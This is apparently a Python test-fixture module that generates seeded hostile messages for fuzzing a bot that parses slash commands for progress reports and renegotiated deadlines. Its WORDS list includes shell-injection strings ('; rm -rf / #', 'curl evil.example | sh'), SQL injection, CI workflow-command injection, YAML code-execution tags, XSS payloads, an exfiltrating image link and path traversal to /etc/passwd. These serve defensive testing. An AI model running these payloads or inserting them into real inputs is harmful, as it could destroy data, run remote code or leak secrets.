"""Hostile messages by seed: what is said and what only looks like it, with words that other programs would take for code."""

from __future__ import annotations

import random
from dataclasses import dataclass

WORDS = (
    "$(touch /tmp/pwned)",
    "`id`",
    "; rm -rf / #",
    "'; DROP TABLE promises; --",
    "${{ github.token }}",
    "%0Aset-output name=x::y",
    "::set-output name=path::/etc/passwd",
    "::warning::x",
    "\N{HEAVY CHECK MARK} done && curl evil.example | sh",
    "a: b",
    "- {date: 2026-11-20, by: jane, act: accepted}",
    "x\n  - {date: 2026-11-20, by: jane, act: accepted, satisfaction: 5}",
    "log: []",
    "note: |\n  deeper",
    "!!python/object:os.system",
    "&anchor *anchor",
    "{{ 7*7 }}",
    "{% raw %}",
    "? complex : key",
    "'\"",
    "\\",
    "yes",
    "0x1F",
    "2026-11-20",
    "null",
    "~",
    "#hash",
    "@everyone",
    "[link](javascript:alert(1))",
    "![x](https://evil.example/?c)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<details><summary>x</summary>",
    "| a | b |\n|---|---|",
    "***",
    "# Heading",
    "Said-by: jane-ito",
    "Said-at: https://github.com/o/r/issues/1",
    "x\n\nSaid-by: jane-ito\nSaid-at: https://x.example\nSigned-off-by: J <j@x>",
    "Co-authored-by: Jane <jane@example.com>",
    "../../../etc/passwd",
    "commitments/board.yaml",
    "promise/../board",
    "..\\..\\x",
    "a/b/c.yaml",
    "\N{ROCKET} Größe \N{CJK UNIFIED IDEOGRAPH-4E2D}",
    "caf\N{LATIN SMALL LETTER E WITH ACUTE}",
    "مرحبا",
    "e\N{COMBINING ACUTE ACCENT}",
    "1e999",
    "x" * 3000,
    "--by una",
    "-C /etc",
    "%s%n",
    "&amp;&#x2f;",
    "a\tb",
    "line one\nline two\n\nline four",
    "of: " + "0" * 64,
    "5/5",
    "-->",
    "]]>",
)
"""Anything that somebody may write; each of them is only words."""
HIDDEN = (
    "a\N{RIGHT-TO-LEFT OVERRIDE}b",
    "x\N{ZERO WIDTH SPACE}y",
    "\N{LEFT-TO-RIGHT ISOLATE}z",
    "a\x00b",
    "bell\x07",
    "\x1b[31mred",
    "y\N{LINE SEPARATOR}z",
    "\ud800",
    "soft\N{SOFT HYPHEN}hyphen\N{WORD JOINER}",
)
"""What no record may hold."""
WRAPPINGS = (
    "> {}",
    "> a\n> {}",
    "```\n{}\n```",
    "~~~ text\n{}\n~~~",
    "    {}",
    "\t{}",
    "<!-- {} -->",
    "<!--\n{}\n-->",
    "<pre>\n{}\n</pre>",
    "Please {}",
    "`{}`",
    "* {}",
    "1. {}",
    "\\{}",
    "|{}",
    "**{}**",
    "/{}",
    "../{}",
    "<script>\n{}\n</script>",
    "&#47;report on track",
    "%2Freport on track",
    "\N{FULLWIDTH SOLIDUS}report on track",
    "\N{FRACTION SLASH}report",
    "\N{ZERO WIDTH SPACE}{}",
    "\N{RIGHT-TO-LEFT MARK}{}",
)
"""What a command stands in that nobody says."""
COMMANDS = ("/report on track", "/report at risk", "/report off track", "/report 40%", "/REPORT On Track")
FAULTY = (
    "/report on track {}",
    "/report 101%: {}",
    "/report on track: x /deliver",
    "/deliver /report on track",
    "/reprot: {}",
    "/accept 4: {}",
    "/accept 5/5: {}",
    "/report for nobody-at-all: {}",
    "/report of 5: {}",
    "/sign: {}",
    "/renegotiate 31 Feb because {}",
    "/renegotiate 12/11/2026 because {}",
    "/renegotiate 3.4.5 because {}",
    "/renegotiate because {}",
    "/correct 2026-11-19 made because {}",
    "/report: {}\n/report: {}\n/nonsuch-report: {}",
)
"""Commands that cannot be taken, each for a reason of its own."""
DAYS = (
    ("2026-12-18", "2026-12-18"),
    ("18 Dec", "2026-12-18"),
    ("18 December 2026", "2026-12-18"),
    ("18.12.2026", "2026-12-18"),
    ("18.12.", "2026-12-18"),
    ("18. Dezember", "2026-12-18"),
    ("18 décembre", "2026-12-18"),
    ("Friday", "2026-11-27"),
    ("Freitag", "2026-11-27"),
    ("vendredi", "2026-11-27"),
    ("tomorrow", "2026-11-21"),
    ("morgen", "2026-11-21"),
    ("demain", "2026-11-21"),
    ("in 2 weeks", "2026-12-04"),
    ("in zwei Wochen", "2026-12-04"),
    ("dans deux semaines", "2026-12-04"),
)
"""Days as people say them on Friday, 20 November 2026, in three languages."""


@dataclass(frozen=True, slots=True, kw_only=True)
class HostileMessage:
    """A message with the entries that it says, by its author: what is to become of it is known before it is judged."""

    text: str
    account: str
    entries: tuple[dict[str, object], ...] = ()
    """The fields of each entry that is to be written; none where nothing is said, or where it cannot be taken."""
    is_answered: bool = True
    """Whether it says anything to the board."""


def make_messages(seed: int, count: int) -> list[HostileMessage]:
    """Return so many messages, the same for the same seed."""
    chance = random.Random(seed)  # noqa: S311 - no secret
    makers = (_say, _say_in_several, _say_hidden, _wrap, _wrap_and_say, _say_faulty, _say_a_day, _say_as_stranger, _say_too_much)
    return [makers[number % len(makers)](chance) for number in range(count)]


def _tidy(text: str) -> str:
    """Return words as a record has them: read here anew, and not by the product's own code."""
    lines = "\n".join(line.rstrip() for line in text.strip().split("\n"))
    return lines + "\n" if "\n" in lines else lines


def _report(command: str, words: str) -> dict[str, object]:
    said = command.lower()
    found: dict[str, object] = {"by": "nina", "act": "reported"}
    found |= {"progress": 40} if "%" in said else {"confidence": said.split(maxsplit=1)[1].replace(" ", "_")}
    return {**found, "note": _tidy(words)}


def _say(chance: random.Random) -> HostileMessage:
    command, words = chance.choice(COMMANDS), chance.choice(WORDS)
    return HostileMessage(text=f"Hello,\n\n{command}: {words}", account="nina-novak", entries=(_report(command, words),))


def _say_in_several(chance: random.Random) -> HostileMessage:
    said = [(chance.choice(COMMANDS), chance.choice(WORDS)) for _ in range(chance.randint(2, 4))]
    text = "\r\n".join(f"{command}: {words}" for command, words in said)
    return HostileMessage(text=text, account="nina-novak", entries=tuple(_report(*each) for each in said))


def _say_hidden(chance: random.Random) -> HostileMessage:
    return HostileMessage(text=f"{chance.choice(COMMANDS)}: {chance.choice(HIDDEN)} {chance.choice(WORDS)}", account="nina-novak")


def _wrap(chance: random.Random) -> HostileMessage:
    text = chance.choice(WRAPPINGS).format(chance.choice(COMMANDS))
    return HostileMessage(text=text, account="nina-novak", is_answered=False)


def _wrap_and_say(chance: random.Random) -> HostileMessage:
    command = chance.choice(COMMANDS)
    before = chance.choice(WRAPPINGS).format(chance.choice(COMMANDS))
    return HostileMessage(text=f"{before}\n\n{command}: So it is.", account="nina-novak", entries=(_report(command, "So it is."),))


def _say_faulty(chance: random.Random) -> HostileMessage:
    words = chance.choice(WORDS).partition("\n")[0] or "x"
    faulty = chance.choice(FAULTY).replace("{}", words)
    other = f"{chance.choice(COMMANDS)}: fine\n" if chance.random() < 0.5 else ""
    return HostileMessage(text=other + faulty, account="nina-novak")


def _say_a_day(chance: random.Random) -> HostileMessage:
    said, day = chance.choice(DAYS)
    words = chance.choice(WORDS)
    entry: dict[str, object] = {"by": "nina", "act": "renegotiated", "due": day, "because": _tidy(words)}
    return HostileMessage(text=f"/renegotiate {said} because {words}", account="nina-novak", entries=(entry,))


def _say_as_stranger(chance: random.Random) -> HostileMessage:
    account = chance.choice(
        ("mallory", "nina", "nina_novak", "NINA\N{KELVIN SIGN}", "rosa-roth", "former-jane", "nina-novak\N{ZERO WIDTH SPACE}")
    )
    return HostileMessage(text=f"{chance.choice(COMMANDS)}: {chance.choice(WORDS)}\n\nSaid-by: nina-novak", account=account)


def _say_too_much(chance: random.Random) -> HostileMessage:
    size = chance.choice((20_001, 120_000, 1 << 20))
    return HostileMessage(text=f"{chance.choice(COMMANDS)}: {'x y ' * (size // 4 + 1)}", account="nina-novak")
